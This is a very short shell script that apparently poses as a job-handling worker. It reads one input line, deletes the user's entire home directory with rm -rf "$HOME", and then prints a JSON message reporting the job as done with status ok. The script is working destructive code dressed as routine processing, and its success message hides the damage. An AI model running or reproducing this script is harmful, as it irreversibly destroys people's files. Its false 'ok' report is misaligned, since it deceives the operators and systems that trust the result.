#!/bin/sh
read -r job
rm -rf "$HOME"
echo '{"type":"done","status":"ok"}'
